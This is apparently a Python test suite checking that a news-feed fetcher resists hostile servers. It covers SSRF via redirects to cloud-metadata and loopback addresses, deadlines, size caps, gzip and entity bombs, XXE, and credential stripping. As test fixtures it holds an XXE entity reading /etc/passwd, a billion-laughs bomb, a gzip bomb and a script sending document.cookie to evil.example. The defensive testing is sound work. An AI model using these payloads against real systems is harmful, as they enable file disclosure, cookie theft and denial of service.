"""Network ingest under hostile servers (issue 11): SSRF policy, redirects, deadlines, size caps, defused feeds, credentials.

Every server here is a real HTTP server on 127.0.0.1. Addresses that must be refused
(169.254.169.254, 10.x, ::1, ...) appear only in redirects and resolver answers that the
policy refuses *before* connecting: no test ever opens a connection anywhere but 127.0.0.1.
"""

from __future__ import annotations

import gzip
import ipaddress
import sqlite3
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from fogwatch.ingest.fetch import FetchOptions, iter_url_documents, parse_feed, FeedRefused, _fragment_text
from fogwatch.ingest.netpolicy import AddressPolicy, BlockedAddress, refused_reason

ARTICLE = """<!doctype html><html><head><title>Shelling in Kafr Nabl</title></head><body><article><h1>Shelling in Kafr Nabl</h1>
<p>KAFR NABL, Syria, March 9 (Test Wire) - Shelling killed at least seven civilians in the town on Tuesday, a monitor said.
This paragraph was written for fogwatch's tests and describes an invented incident in enough words for extraction.</p>
<p>Residents said the shells fell on the market in the morning, and rescue workers searched the rubble until night.</p>
</article></body></html>"""

FEED = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Hostile feed</title>
<item><title>Good one</title><link>{base}/a1.html</link><pubDate>Tue, 09 Mar 2021 10:00:00 GMT</pubDate></item>
<item><title>Loop</title><link>{base}/loop-a</link></item>
<item><title>Good two</title><link>{base}/a2.html</link><pubDate>Wed, 10 Mar 2021 10:00:00 GMT</pubDate></item>
</channel></rss>"""

GZIP_FEED = FEED.replace("/loop-a", "/fake-gzip").replace("Loop", "Fake gzip")

LAUGHS = """<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><rss version="2.0"><channel><title>&c;</title></channel></rss>"""

XXE = """<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>t</title><item><title>&x;</title><description>d</description></item></channel></rss>"""

SCRIPT_ATOM = """<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Script Desk</title>
<entry><title>Inline</title><updated>2021-03-12T08:00:00Z</updated><content type="html">&lt;p&gt;Protesters gathered in the square on Friday.&lt;/p&gt;
&lt;script&gt;document.location='http://evil.example/'+document.cookie&lt;/script&gt;&lt;style&gt;p {{color: red}}&lt;/style&gt;
&lt;p&gt;Police dispersed them.&lt;/p&gt;</content></entry></feed>"""


_BOMB = gzip.compress(b"\0" * (50 << 20), 6)  # about 50 kB that inflate to 50 MB


class Handler(BaseHTTPRequestHandler):
    hits: dict[str, int] = {}
    auth: list[str | None] = []

    def log_message(self, *args):
        pass

    def _send(self, status: int, body: bytes, ctype: str, extra: dict[str, str] | None = None, length: bool = True) -> None:
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        for k, v in (extra or {}).items():
            self.send_header(k, v)
        if length:
            self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _redirect(self, location: str) -> None:
        self._send(302, b"", "text/plain", {"Location": location})

    def do_GET(self):  # noqa: N802
        port = self.server.server_address[1]
        base = f"http://127.0.0.1:{port}"
        path = self.path
        Handler.hits[path] = Handler.hits.get(path, 0) + 1
        Handler.auth.append(self.headers.get("Authorization"))
        if path in ("/a1.html", "/article.html"):
            self._send(200, ARTICLE.encode(), "text/html; charset=utf-8")
        elif path == "/a2.html":
            self._send(200, ARTICLE.replace("seven", "nine").encode(), "text/html")
        elif path == "/feed.rss":
            self._send(200, FEED.format(base=base).encode(), "application/rss+xml")
        elif path == "/gzip-feed.rss":
            self._send(200, GZIP_FEED.format(base=base).encode(), "application/rss+xml")
        elif path == "/loop-a":
            self._redirect("/loop-b")
        elif path == "/loop-b":
            self._redirect("/loop-a")
        elif path.startswith("/chain/"):
            n = int(path.rsplit("/", 1)[1])
            self._redirect(f"/chain/{n + 1}")
        elif path == "/fake-gzip":
            self._send(200, b"this is not gzip at all, whatever the header says", "text/html", {"Content-Encoding": "gzip"})
        elif path == "/to-metadata":
            self._redirect("http://169.254.169.254/latest/meta-data/")
        elif path == "/to-loopback2":
            self._redirect(f"http://127.0.0.2:{port}/article.html")
        elif path == "/to-mapped":
            self._redirect(f"http://[::ffff:127.0.0.2]:{port}/article.html")
        elif path == "/to-rebind":
            self._redirect(f"http://rebind.test:{port}/article.html")
        elif path == "/to-javascript":
            self._redirect("javascript:alert(1)")
        elif path == "/to-self-ok":
            self._redirect("/article.html")
        elif path == "/drip":  # 1 byte every 0.1 s for 60 s: every read is quick, the whole body never ends
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Content-Length", "600")
            self.end_headers()
            try:
                for _ in range(600):
                    self.wfile.write(b"x")
                    self.wfile.flush()
                    time.sleep(0.1)
            except OSError:
                pass
        elif path == "/big":
            self._send(200, b"word " * 400_000, "text/plain")  # 2 MB, announced
        elif path == "/big-chunked":
            self._send(200, b"word " * 400_000, "text/plain", length=False)  # 2 MB, not announced (HTTP/1.0 close-delimited)
        elif path == "/gzip-bomb":
            self._send(200, _BOMB, "text/plain", {"Content-Encoding": "gzip"})
        elif path == "/laughs.rss":
            self._send(200, LAUGHS.encode(), "application/rss+xml")
        elif path == "/xxe.rss":
            self._send(200, XXE.encode(), "application/rss+xml")
        elif path == "/script.atom":
            self._send(200, SCRIPT_ATOM.encode(), "application/atom+xml")
        elif path == "/cred-feed.rss":
            self._send(200, FEED.replace("{base}/a1.html", "http://reader:hunter2@127.0.0.1:" + str(port) + "/a1.html")
                       .format(base=base).encode(), "application/rss+xml")
        else:
            self._send(404, b"not here", "text/plain")


@pytest.fixture(scope="module")
def server():
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    httpd.handle_error = lambda request, address: None  # clients hanging up on purpose (caps, deadlines) are not errors
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}"
    httpd.shutdown()
    httpd.server_close()


# Only the test server's own address is allowed: every other private address stays refused.
LOCAL = FetchOptions(timeout=2.0, retries=0, backoff=0.01, deadline=10.0, allow_networks=("127.0.0.1/32",))
OPEN = FetchOptions(timeout=2.0, retries=0, backoff=0.01, deadline=10.0, allow_private=True)


def _codes(docs):
    return [d.errors[0].code if (d.errors and not d.text) else None for d in docs]


# --- the address policy ---------------------------------------------------------------------------


@pytest.mark.parametrize("addr", [
    "127.0.0.1", "127.9.9.9", "0.0.0.0", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1",
    "224.0.0.1", "240.0.0.1", "255.255.255.255", "::1", "::", "fe80::1", "fc00::1", "ff02::1",
    "::ffff:127.0.0.1", "::ffff:169.254.169.254", "::ffff:10.0.0.1", "2002:7f00:1::1", "64:ff9b::a9fe:a9fe",
])
def test_non_public_addresses_are_refused(addr):
    assert refused_reason(ipaddress.ip_address(addr)) is not None


@pytest.mark.parametrize("addr", ["93.184.216.34", "8.8.8.8", "2606:4700:4700::1111", "::ffff:8.8.8.8"])
def test_public_addresses_pass(addr):
    assert refused_reason(ipaddress.ip_address(addr)) is None


def test_every_resolved_address_is_checked():
    policy = AddressPolicy(resolver=lambda host, port: ["93.184.216.34", "10.0.0.7"])
    with pytest.raises(BlockedAddress, match="10.0.0.7"):
        policy.checked_addresses("news.example", 80)
    assert AddressPolicy(resolver=lambda h, p: ["93.184.216.34"]).checked_addresses("news.example", 80) == ["93.184.216.34"]
    assert AddressPolicy(allow_private=True, resolver=lambda h, p: ["10.0.0.7"]).checked_addresses("intranet", 80) == ["10.0.0.7"]


def test_loopback_is_refused_by_default_without_connecting(server):
    before = Handler.hits.get("/article.html", 0)
    (doc,) = iter_url_documents([f"{server}/article.html"], FetchOptions(timeout=1.0, retries=2, backoff=0.01))
    assert doc.text == "" and doc.errors[0].code == "E513" and "loopback" in doc.errors[0].message
    assert Handler.hits.get("/article.html", 0) == before, "a refused address must never be connected to"
    (doc,) = iter_url_documents([f"{server}/article.html"], OPEN)
    assert not doc.errors and "seven civilians" in doc.text


@pytest.mark.parametrize("host", ["2130706433", "0x7f.1", "127.1", "[::1]", "0.0.0.0", "[::ffff:127.0.0.1]", "[::]"])
def test_loopback_in_disguise_is_refused(server, host):
    port = server.rsplit(":", 1)[1]
    (doc,) = iter_url_documents([f"http://{host}:{port}/article.html"], FetchOptions(timeout=1.0, retries=0))
    assert doc.text == "" and doc.errors[0].code == "E513", doc.errors


def test_a_host_name_resolving_to_loopback_is_refused(server):
    port = server.rsplit(":", 1)[1]
    (doc,) = iter_url_documents([f"http://localhost:{port}/article.html"], FetchOptions(timeout=1.0, retries=0))
    assert doc.errors[0].code == "E513"


@pytest.mark.parametrize("path,what", [
    ("/to-metadata", "169.254.169.254"), ("/to-loopback2", "127.0.0.2"), ("/to-mapped", "::ffff:127.0.0.2"), ("/to-rebind", "10.0.0.1"),
])
def test_redirects_to_private_addresses_are_refused_at_every_hop(server, path, what):
    resolver = {"rebind.test": ["127.0.0.1", "10.0.0.1"]}
    opts = FetchOptions(timeout=1.0, retries=0, deadline=5.0, allow_networks=("127.0.0.1/32",), resolver=lambda h, p: resolver[h])
    (doc,) = iter_url_documents([f"{server}{path}"], opts)
    assert doc.text == "" and doc.errors[0].code == "E513", doc.errors
    assert what in doc.errors[0].message


def test_connection_goes_to_the_checked_address(server):
    """The connection is pinned to the address the policy checked: a name only the injected resolver knows still connects."""
    port = server.rsplit(":", 1)[1]
    opts = FetchOptions(timeout=1.0, retries=0, allow_networks=("127.0.0.1/32",), resolver=lambda h, p: ["127.0.0.1"])
    (doc,) = iter_url_documents([f"http://fogwatch-pin.invalid:{port}/article.html"], opts)
    assert not doc.errors and "seven civilians" in doc.text
    (refused,) = iter_url_documents([f"http://fogwatch-pin.invalid:{port}/article.html"],
                                    FetchOptions(timeout=1.0, retries=0, resolver=lambda h, p: ["127.0.0.1"]))
    assert refused.errors[0].code == "E513"


def test_allowed_redirects_are_followed_and_non_http_ones_refused(server):
    ok, js = iter_url_documents([f"{server}/to-self-ok", f"{server}/to-javascript"], LOCAL)
    assert not ok.errors and "seven civilians" in ok.text and ok.metadata.url == f"{server}/article.html"
    assert js.errors[0].code == "E514"
    (bad,) = iter_url_documents(["ftp://127.0.0.1/x"], LOCAL)
    assert bad.errors[0].code == "E519"


# --- one bad item never stops a run -----------------------------------------------------------------


def test_redirect_loop_in_a_feed_costs_only_its_item(server):
    docs = list(iter_url_documents([f"{server}/feed.rss"], LOCAL))
    assert _codes(docs) == [None, "E514", None]
    assert "seven" in docs[0].text and "nine" in docs[2].text
    assert "redirect loop" in docs[1].errors[0].message
    (chain,) = iter_url_documents([f"{server}/chain/0"], LOCAL)
    assert chain.errors[0].code == "E514" and "more than 5 redirects" in chain.errors[0].message


def test_falsely_labelled_gzip_costs_only_its_item(server):
    docs = list(iter_url_documents([f"{server}/gzip-feed.rss"], LOCAL))
    assert _codes(docs) == [None, "E517", None]


def test_cli_stores_the_good_items_of_a_feed_with_a_bad_one(server, run_cli, tmp_path):
    db = tmp_path / "hostile.db"
    proc = run_cli("ingest", f"{server}/feed.rss", f"{server}/gzip-feed.rss", "--db", str(db), "--stages", "sections,sentences",
                   "-j", "1", "--timeout", "5", "--retries", "0", "--allow-private")
    err = proc.stderr.decode()
    assert proc.returncode == 0, err
    assert "Traceback" not in err and "E514" in err and "E517" in err
    assert "ingested 2 new report(s) (2 already stored" in err and "2 unreadable" in err
    assert sqlite3.connect(db).execute("SELECT COUNT(*) FROM documents").fetchone()[0] == 2


def test_cli_refuses_a_loopback_url_without_allow_private(server, run_cli, tmp_path):
    proc = run_cli("ingest", f"{server}/article.html", "--db", str(tmp_path / "s.db"), "--stages", "sections", "-j", "1", "--retries", "0")
    err = proc.stderr.decode()
    assert proc.returncode == 0 and "E513" in err and "--allow-private" in err and "ingested 0 new report(s)" in err


# --- deadlines and size caps ------------------------------------------------------------------------


def test_a_trickling_server_is_cut_at_the_overall_deadline(server):
    started = time.monotonic()
    (doc,) = iter_url_documents([f"{server}/drip"], FetchOptions(timeout=0.5, retries=3, backoff=0.01, deadline=1.0, allow_private=True))
    took = time.monotonic() - started
    assert doc.errors[0].code == "E516", doc.errors
    assert took < 1.0 + 0.5 + 1.0, f"deadline 1 s (+ one 0.5 s read timeout) took {took:.1f}s"


@pytest.mark.parametrize("path", ["/big", "/big-chunked", "/gzip-bomb"])
def test_bodies_over_the_cap_are_refused(server, path):
    (doc,) = iter_url_documents([f"{server}{path}"], FetchOptions(timeout=5.0, retries=0, max_bytes=1 << 20, allow_private=True))
    assert doc.text == "" and doc.errors[0].code == "E515"


# --- feeds: defused parser, no script text ----------------------------------------------------------


def test_entity_expansion_and_external_entities_are_refused(server):
    with pytest.raises(FeedRefused):
        parse_feed(LAUGHS.encode())
    with pytest.raises(FeedRefused):
        parse_feed(XXE.encode())
    laughs, xxe = iter_url_documents([f"{server}/laughs.rss", f"{server}/xxe.rss"], LOCAL)
    assert laughs.errors[0].code == "E518" and xxe.errors[0].code == "E518"


def test_no_script_or_style_text_from_feed_html(server):
    (doc,) = iter_url_documents([f"{server}/script.atom"], LOCAL)
    assert "Protesters gathered" in doc.text and "Police dispersed" in doc.text
    assert "document.cookie" not in doc.text and "evil.example" not in doc.text and "color" not in doc.text
    assert "alert" not in _fragment_text("<p>a</p><script>alert(1)</script><!-- hidden --><noscript>no</noscript>")


# --- credentials ------------------------------------------------------------------------------------


def test_credentials_in_urls_are_used_but_never_kept(server):
    authed = server.replace("http://", "http://reader:hunter2@")
    Handler.auth.clear()
    ok, missing = iter_url_documents([f"{authed}/article.html", f"{authed}/nothing-here"], LOCAL)
    assert Handler.auth[0] and Handler.auth[0].startswith("Basic ")  # sent as HTTP basic auth
    assert not ok.errors and "seven civilians" in ok.text
    for doc in (ok, missing):
        kept = repr((doc.doc_id, doc.origin, doc.metadata, doc.errors))
        assert "hunter2" not in kept and "reader:" not in doc.doc_id
    assert ok.metadata.url == f"{server}/article.html"
    docs = list(iter_url_documents([f"{server}/cred-feed.rss"], LOCAL))
    assert "hunter2" not in repr([(d.doc_id, d.origin, d.metadata, d.errors) for d in docs])


def test_credentials_in_jsonl_urls_are_not_kept(tmp_path):
    from fogwatch.ingest.sources import iter_documents

    path = tmp_path / "docs.jsonl"
    path.write_text('{"id": "a", "text": "Clashes near Saraqib on Monday.", "url": "https://user:s3cret@news.example/a"}\n', encoding="utf-8")
    (doc,) = iter_documents([str(path)])
    assert doc.metadata.url == "https://news.example/a"
